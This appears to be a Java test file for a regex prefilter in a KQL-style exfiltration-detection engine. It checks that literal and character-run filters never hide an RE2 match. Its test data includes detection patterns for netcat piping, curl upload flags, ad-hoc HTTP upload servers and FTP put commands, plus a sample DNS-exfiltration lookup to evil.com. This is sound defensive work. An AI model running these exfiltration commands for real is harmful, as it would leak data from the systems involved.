package io.egress.kql.engine.functions.operators;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.re2j.Pattern;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.stream.Stream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class RegexPrefilterTest {
    /** Pattern → the literals one of which a match must contain ('' = no prefilter). */
    @ParameterizedTest
    @CsvSource(delimiter = '#', value = {
            "http://                                   # http://",
            "(?i)\\s-m\\s+(http\\.server|SimpleHTTPServer)\\b # http.server,simplehttpserver",
            "(?i)(^|\\s)/upload(\\s|$)                  # /upload",
            "--upload-file                             # --upload-file",
            "(?:-F|--form)\\s*[\\w.]+=[@<]                # ''",
            "(ftp|tftp)://                             # ftp://,tftp://",
            "ab                                        # ''",
            "abc*                                      # ''",
            "(abc)+x                                   # abc",
            "a(bc|de)?fgh                              # fgh",
            "(?i)send-mailmessage                      # send-mailmessage",
            "x(?i:abc)                                 # ''",
            "(?-i)abc                                  # ''",
            "\\Qa.b*c\\E                                # a.b*c",
            "[Pp][Uu][Tt]\\s                             # PUT,PUt,PuT,Put,pUT,pUt,puT,put",
            "[Pp][Uu][Tt]\\s+file                        # file",
            "\\x41BCD                                   # ''",
            "(?i)\\b(cat|tar|gzip)\\s[^|]*\\|\\s*(nc|ncat)\\s # cat,tar,gzip",
            "(?i)(sftp://|ftps://|--ssl-reqd)          # sftp://,ftps://,--ssl-reqd"})
    void findsTheRequiredLiterals(String regex, String expected) {
        RegexPrefilter prefilter = RegexPrefilter.of(regex.strip());
        if (expected.isBlank()) {
            assertThat(prefilter).as(regex).isNull();
        } else {
            assertThat(prefilter).as(regex).isNotNull();
            assertThat(prefilter.literals()).as(regex).containsExactlyInAnyOrder(expected.strip().split(","));
        }
    }

    /** Pattern → the shortest run of one class every match contains (0 = none), a member and a non-member. */
    @ParameterizedTest
    @CsvSource(delimiter = '#', value = {
            "[A-Za-z0-9+/]{20,}\\.[a-z]{2,}             # 20 # + # .",
            "\\w{32}                                    # 32 # _ # -",
            "\\d{4}-\\d{6,8}                            # 6  # 7 # -",
            "(?i)[a-f0-9]{8}                           # 8  # D # g",
            "(?:[\\w.-]){10}x                           # 10 # . # /",
            "(ab[0-9]{7})+                             # 7  # 3 # a",
            "[a-z]{7}|[0-9]{9}                         # 7  # 5 # A",
            "[a-z]{7}|.{9}                             # 0  # a # A",
            "[a-z]{3}                                  # 0  # a # A",
            "[^a-z]{20}                                # 0  # 1 # a",
            "[\\p{L}a]{20}                               # 0  # a # 1",
            "[[:alpha:]]{20}                           # 0  # a # 1",
            "x{2}[a-z]{0,20}                           # 0  # a # 1",
            "(?:ab){10}                                # 0  # a # c",
            "\\s{6}                                     # 6  # TAB # VT"})
    void findsTheRequiredRun(String regex, int min, String member, String other) {
        RegexPrefilter prefilter = RegexPrefilter.of(regex.strip());
        RegexPrefilter.Run run = prefilter == null ? null : prefilter.run();
        if (min == 0) {
            assertThat(run).as(regex).isNull();
            return;
        }
        assertThat(run).as(regex).isNotNull();
        assertThat(run.min()).as(regex).isEqualTo(min);
        assertThat(run.members().contains(unescape(member))).as(regex + " holds " + member).isTrue();
        assertThat(run.members().contains(unescape(other))).as(regex + " lacks " + other).isFalse();
    }

    private static char unescape(String s) {
        s = s.strip();
        return s.equals("TAB") ? '\t' : s.equals("VT") ? '\u000B' : s.charAt(0);
    }

    @Test
    void runsRuleOutTextsWithoutThem() {
        RegexPrefilter p = RegexPrefilter.of("[A-Za-z0-9+/]{20,}\\.[a-z]{2,}");
        assertThat(p.mayMatch("nslookup example.com")).isFalse();
        assertThat(p.mayMatch("nslookup aGVsbG8gd29ybGQgZnJvbSBo.evil.com")).isTrue();
        assertThat(p.mayMatch("x".repeat(19) + ".com " + "y".repeat(19) + "-")).isFalse();
        RegexPrefilter ci = RegexPrefilter.of("(?i)[a-f]{6}");
        assertThat(ci.mayMatch("DEADBE")).isTrue();
        assertThat(ci.mayMatch("deadbg")).isFalse();
        assertThat(ci.mayMatch("dead\u212Abe")).isTrue(); // non-ASCII: RE2 decides
    }

    @Test
    void caseInsensitiveMatchingFoldsAsciiAndLetsNonAsciiThrough() {
        RegexPrefilter p = RegexPrefilter.of("(?i)mailmessage");
        assertThat(p.mayMatch("Send-MailMessage -To x")).isTrue();
        assertThat(p.mayMatch("Get-ChildItem")).isFalse();
        assertThat(p.mayMatch("maılmessage")).isTrue(); // non-ASCII: RE2 decides
        assertThat(RegexPrefilter.of("MailMessage").mayMatch("mailmessage")).isFalse();
    }

    private static final List<String> PATTERNS = List.of(
            "(?i)\\s-m\\s+(http\\.server|SimpleHTTPServer|uploadserver)\\b",
            "(?i)(\\bhttps://|\\bftps://|--ssl-reqd|--ssl\\b)",
            "(?:^|\\s)(?:-[a-zA-Z]*T|--upload-file)(?:\\s+|=)['\"]?([^\\s'\"]+)",
            "(?i)\\b(cat|tar|gzip|base64)\\s[^|]*\\|\\s*(nc|ncat|netcat)\\s+[\\w.:-]+\\s+\\d{1,5}",
            "(?i)(put|mput|reput)\\s+\\S|\\bmirror\\s+(-\\S+\\s+)*(-R|--reverse)",
            "(?i)open\\s+['\"]?ftp://",
            "a(bc|de)+f?gh[ij]k",
            "(?i)k[eé]lvin\\s+ſcale",
            "x{2,}yz|w(?:v|u)tt",
            "(?i)^(python[0-9.]*|php)(\\.exe)?$",
            "[\\]a-c]+put|\\Qx.y\\E",
            "(|abc)def",
            "(?s)a.*?bcd",
            "(?i)(?:x|y)+zzz{2}",
            "[A-Za-z0-9+/]{20,}\\.[a-z]{2,}",
            "(?i)[a-f0-9]{8}",
            "\\w{6,}x|\\d{7}",
            "(ab\\d{6})+|[xyz]{7}",
            "[\\w.-]{10}",
            "(?i)\\s{6}K",
            "[+/=]{6}");

    /** Whenever RE2 finds a match, the prefilter lets the text through. */
    @Property(tries = 3000)
    void neverHidesAMatch(@ForAll("patterns") String regex, @ForAll("texts") String text) {
        RegexPrefilter prefilter = RegexPrefilter.of(regex);
        if (prefilter != null && Pattern.compile(regex).matcher(text).find()) {
            assertThat(prefilter.mayMatch(text)).as(regex + " on " + text).isTrue();
        }
    }

    @Provide
    Arbitrary<String> patterns() {
        return Arbitraries.of(PATTERNS);
    }

    @Provide
    Arbitrary<String> texts() {
        Arbitrary<String> pieces = Arbitraries.oneOf(
                Arbitraries.of("http.server", "HTTP.Server", "SimpleHTTPServer", "uploadserver", " -m ", " ", "-T ", "--upload-file",
                        "=", "https://", "FTPS://", "--ssl", "cat", "TAR", " | ", "nc ", "NCAT ", "10.0.0.1 ", "4444", "put ", "PUT",
                        "mirror ", "-R", "--reverse", "open ", "ftp://", "'", "\"", "a", "bc", "de", "f", "gh", "i", "j", "k", "K",
                        "\u212A", "\u017F", "elvin", "é", "cale", "xx", "yz", "w", "v", "u", "tt", "\t", "/",
                        "python3", "PHP", ".exe", "]", "put", "x.y", "def", "bcd", "\n", "X", "Y", "ZZZ", "zz",
                        "QUJDREVGR0hJSktMTU5PUA", "deadbeef", "DEADBEEF", "1234567", "xyzxyzx", "a_b_c_d_e", "ab123456",
                        "+/+/+/", "==", "\u000B", "     ", ".com", "\f\r"),
                Arbitraries.strings().ascii().ofMaxLength(3));
        return pieces.list().ofMaxSize(12).map(l -> String.join("", l));
    }

    /** Every regex of the bundled rules against every line of their scenarios' telemetry: no match is hidden. */
    @Test
    void agreesWithRe2OnTheBundledRulesAndScenarios() throws IOException {
        Path rules = Path.of(System.getProperty("egress.repo.root", "..")).resolve("rules");
        List<String> regexes = new ArrayList<>();
        List<String> texts = new ArrayList<>();
        try (Stream<Path> files = Files.walk(rules)) {
            for (Path f : files.filter(Files::isRegularFile).toList()) {
                String content = Files.readString(f);
                if (f.toString().contains("scenarios")) {
                    content.lines().forEach(texts::add);
                } else if (f.toString().endsWith(".yaml")) {
                    Matcher m = java.util.regex.Pattern.compile("@\"((?:[^\"]|\"\")*)\"").matcher(content);
                    while (m.find()) {
                        regexes.add(m.group(1).replace("\"\"", "\""));
                    }
                }
            }
        }
        int filtered = 0;
        for (String regex : regexes) {
            RegexPrefilter prefilter = RegexPrefilter.of(regex);
            Pattern re2;
            try {
                re2 = Pattern.compile(regex);
            } catch (RuntimeException e) {
                continue;
            }
            if (prefilter == null) {
                continue;
            }
            filtered++;
            for (String text : texts) {
                if (re2.matcher(text).find()) {
                    assertThat(prefilter.mayMatch(text)).as(regex + " on " + text).isTrue();
                }
            }
        }
        assertThat(regexes).hasSizeGreaterThan(50);
        assertThat(filtered).isGreaterThan(regexes.size() / 4);
    }
}
